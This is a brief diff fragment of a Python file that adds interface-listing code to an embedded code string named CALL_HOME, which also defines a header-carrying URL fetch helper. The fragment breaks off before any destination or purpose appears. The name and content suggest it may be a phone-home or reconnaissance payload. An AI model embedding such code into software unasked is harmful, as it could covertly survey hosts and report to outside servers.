@@ -8,6 +8,8 @@ import socket
 import tarfile
 
 CALL_HOME = """
+import socket
+print('interfaces', [name for _, name in socket.if_nameindex()])
 import json, os, urllib.request
 def get(url, **headers):
     try: return urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=5).read().decode()
